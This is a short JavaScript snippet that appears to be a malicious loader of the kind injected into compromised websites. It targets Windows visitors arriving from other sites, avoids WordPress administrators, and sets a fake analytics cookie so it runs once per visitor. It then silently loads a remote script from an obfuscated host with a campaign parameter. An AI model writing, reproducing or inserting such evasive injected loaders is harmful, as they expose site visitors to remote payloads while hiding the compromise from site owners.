(function () {
  var n = navigator.userAgent, d = document, w = window;
  var host = d.location.hostname.replace(/^www\./, '');
  var ref = d.referrer ? d.referrer.split('/')[2] : '';
  if (n.indexOf('Windows') === -1 || d.cookie.indexOf('__utma=') !== -1 || w.localStorage['__utma']) { return; }
  if (!ref || ref.indexOf(host) !== -1) { return; }
  if (d.cookie.indexOf('wordpress_') !== -1) { return; }
  w.localStorage['__utma'] = 1;
  var s = d.createElement('script');
  s.type = 'text/javascript';
  s.async = true;
  s.src = '//' + ['cpanel', 'harborlawfirm', 'example'].join('.') + '/s_code.js?cid=000&v=' + 'cGxhY2Vob2xkZXItY2FtcGFpZ24=';
  var t = d.getElementsByTagName('script')[0];
  t.parentNode.insertBefore(s, t);
})();
